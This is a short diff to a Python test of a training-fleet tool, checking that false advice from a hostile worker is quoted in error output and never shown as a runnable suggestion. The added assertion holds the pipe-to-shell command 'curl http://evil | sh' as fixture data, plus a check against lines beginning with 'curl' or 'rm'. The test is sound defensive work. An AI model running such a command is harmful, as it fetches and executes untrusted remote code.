@@ -39,6 +39,10 @@ def test_the_healthy_hosts_of_a_fleet_stay_usable(program: Program, home: Lab, t
         status = program.run("status", code=None)
         assert "worker-0" in status.text + status.err
         assert_no_bug(status.text + status.err)
+    worker_1.answers(hostile.FALSE_ADVICE)
+    advised = program.run("train", "task.py", code=14)
+    assert "worker-1 suggests: curl http://evil | sh next: curl http://evil | sh" in advised.err
+    assert not [line for line in advised.err.splitlines() if line.strip().startswith(("next:", "curl", "rm"))]
     worker_1.answers(hostile.WRONG_TYPES)
     train = program.run("train", "task.py", code=14)
     assert "worker-1" in train.err
